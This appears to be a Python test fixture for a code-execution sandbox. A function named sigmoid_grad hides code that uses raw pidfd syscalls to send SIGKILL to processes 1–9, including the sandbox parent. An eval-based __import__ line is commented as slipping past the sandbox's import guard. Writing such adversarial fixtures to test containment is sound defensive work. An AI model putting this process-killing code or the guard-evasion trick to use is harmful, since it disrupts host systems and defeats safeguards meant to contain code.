"""Hostile: pidfd_open the warm parent (pid 1) and the waiting child, then pidfd_send_signal SIGKILL."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
ctypes = _m("ctypes")


def sigmoid_grad(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(1, 10):
        fd = libc.syscall(434, pid, 0)  # pidfd_open
        if fd >= 0:
            libc.syscall(424, fd, 9, None, 0)  # pidfd_send_signal
    return x
